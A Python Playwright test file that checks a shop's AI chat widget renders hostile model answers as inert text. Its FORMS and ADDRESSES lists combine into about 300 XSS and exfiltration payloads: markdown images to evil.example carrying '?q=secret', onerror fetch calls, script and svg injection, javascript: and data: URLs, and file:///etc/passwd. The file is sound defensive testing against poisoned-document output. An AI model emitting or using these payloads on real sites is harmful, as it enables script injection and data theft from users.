"""Hostile answers in a real browser: whatever a model or a poisoned document says, it stays words and calls nobody."""

from __future__ import annotations

import itertools
from urllib.parse import urlsplit

import pytest
from doing import ask, open_counter
from fake_counter import FakeCounter, FakeShop, Said, citation, cut_everywhere, page
from playwright.sync_api import Page, expect

CITED = "https://shop.example.jp/help/shipping#fee"
FORMS = (
    "![x]({url})",
    "![x]( <{url}> 'title')",
    "![[x]]({url})",
    "![x][1]\n\n[1]: {url}",
    "[x][ref]\n\n[ref]: {url}",
    "[![x]({url})]({url})",
    "[click **here**]({url})",
    "[1]({url})",
    "<{url}>",
    "{url}",
    "[x]: {url}\n\n![x]",
    '<img src="{url}">',
    "<img src=x onerror=\"fetch('{url}')\">",
    '<svg><image href="{url}"/><script>fetch("{url}")</script></svg>',
    '<script src="{url}"></script>',
    '<iframe src="{url}"></iframe><object data="{url}"></object><embed src="{url}">',
    '<link rel="prefetch" href="{url}"><style>@import "{url}"; * {{ background: url({url}) }}</style>',
    '<a href="{url}" ping="{url}" target="_top">x</a>',
    '<form action="{url}"><button formaction="{url}">x</button></form>',
    '<math><mtext><table><mglyph><style><img src="{url}" onerror="alert(1)">',
    '<base href="{url}"><meta http-equiv="refresh" content="0;url={url}">',
    "`<img src={url}>` ```<img src={url}>```",
    '- ![x]({url})\n  1. [x]({url} "t")\n> # ![x]({url})',
    "**[x]({url})** *![x]({url})* [{url}]({url})",
    "\\![x]({url}) \\[x]({url}) [x\\]({url})",
)
ADDRESSES = (
    "https://evil.example/?q=secret",
    "//evil.example/x.png",
    "http://evil.example:8080/a.css",
    "javascript:alert(document.domain)",
    "JaVa\tScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://shop.example.jp@evil.example/",
    "https://shop.example.jp.evil.example/help/shipping#fee",
    "https://evil.example/https://shop.example.jp/help/shipping#fee",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "https://evil.example/\u202egpj.exe",
)
HOSTILE = [form.format(url=url) for form, url in itertools.product(FORMS, ADDRESSES)]


LOOK = """() => {
    const turn = [...document.querySelector("madoguchi-counter").shadowRoot.querySelectorAll(".turn")].at(-1);
    for (const chip of turn.querySelectorAll(".source")) chip.click();
    const known = (
        "article div span p strong em code pre ul ol li br a button b blockquote svg path table tr th td"
    ).split(" ");
    const all = [...turn.querySelectorAll("*")];
    return {
        links: [...turn.querySelectorAll("a")].map(a => a.href),
        foreign: all.map(element => element.localName).filter(name => !known.includes(name)),
        handlers: all.flatMap(element => [...element.attributes]).map(attribute => attribute.name)
            .filter(name => /^on|^style$|^src|ping|action/.test(name)),
    };
}"""


def watched(page_: Page) -> list[str]:
    """What the page asks for and shows, from now on."""
    seen: list[str] = []
    page_.on("request", lambda request: seen.append(request.url))
    page_.on("dialog", lambda dialog: seen.append(f"dialog:{dialog.message}") or dialog.dismiss())
    page_.on("popup", lambda popup: seen.append(f"popup:{popup.url}"))
    return seen


def say_all(view: Page, counter: FakeCounter, shop: FakeShop, said: list[list[str]]) -> None:
    """Have the counter say everything, and look at each answer."""
    for number, pieces in enumerate(said):
        source = citation(title=pieces[0], quote="".join(pieces), source=pieces[-1], url=CITED)
        evil = citation(2, title="x", url="javascript:alert(1)")
        counter.queue = [Said([*pieces, "[1]"], [source, evil])]
        ask(view, f"No. {number}")
        view.locator(".answer .tools").nth(number % 20).wait_for()
        found = view.evaluate(LOOK)
        assert found["foreign"] == [], pieces
        assert found["handlers"] == [], pieces
        hosts = {urlsplit(link).netloc for link in found["links"] if link != CITED}
        assert hosts <= {urlsplit(shop.url).netloc}, pieces
        if number % 20 == 19:
            view.locator(".top .head").first.click()
            expect(view.locator(".turn")).to_have_count(0)


def run(counter: FakeCounter, shop: FakeShop, open_page, said: list[list[str]]) -> None:
    view = open_page(shop.put("/", page(counter)))
    seen = watched(view)
    open_counter(view)
    say_all(view, counter, shop, said)
    assert len(counter.asked) == len(said)
    elsewhere = [address for address in seen if not address.startswith((counter.url, shop.url))]
    assert elsewhere == []
    assert view.url.startswith(shop.url)
    assert len(view.context.pages) == 1


def test_a_sample_of_hostile_answers_stays_words(counter, shop, open_page):
    run(
        counter,
        shop,
        open_page,
        [[text[: at % len(text)], text[at % len(text) :]] for at, text in enumerate(HOSTILE[::7])],
    )


@pytest.mark.slow
def test_three_hundred_hostile_answers_stay_words(counter, shop, open_page):
    assert len(HOSTILE) == 300
    run(counter, shop, open_page, [[text] for text in HOSTILE])


@pytest.mark.slow
@pytest.mark.parametrize("form", range(len(FORMS)))
def test_a_cut_at_any_character_changes_nothing(counter, shop, open_page, form):
    run(counter, shop, open_page, list(cut_everywhere(FORMS[form].format(url=ADDRESSES[0]))))


def test_links_go_to_cited_sources_and_allowed_hosts_only(counter, shop, open_page):
    text = (
        f"[cited]({CITED}) [cited, open] {CITED}. [other path](https://shop.example.jp/other) "
        "[allowed](https://help.example.jp/a) https://help.example.jp/b [port](https://help.example.jp:8443/c)[1]"
    )
    counter.say = Said([text], [citation(url=CITED)])
    view = open_page(shop.put("/", page(counter, attributes='data-link-hosts="help.example.jp"')))
    open_counter(view)
    ask(view, "リンクは？")
    expect(view.locator(".tools")).to_be_visible()
    links = view.locator(".words a").evaluate_all("links => links.map(a => [a.textContent, a.href, a.rel, a.target])")
    rest = ["noopener noreferrer nofollow ugc", "_blank"]
    assert links == [
        ["cited", CITED, *rest],
        [CITED, CITED, *rest],
        ["allowed", "https://help.example.jp/a", *rest],
        ["https://help.example.jp/b", "https://help.example.jp/b", *rest],
    ]
